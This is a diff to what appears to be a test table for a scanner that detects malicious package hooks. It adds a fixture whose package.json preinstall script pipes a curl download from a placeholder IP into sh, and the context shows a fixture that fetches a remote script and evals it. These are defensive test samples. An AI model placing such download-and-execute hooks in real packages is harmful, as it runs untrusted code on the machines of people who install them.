@@ -65,6 +65,11 @@ https.get("https://code.example.test/stage.js", (response) => {
   response.on("end", () => eval(text));
 });
 )"},
+    {.name = "a hook pipes a download into a shell",
+     .expect = "package.json:1",
+     .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://192.0.2.10/a | sh"}}
+)"},
     {.name = "an answer is parsed as data", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
 Name: sample
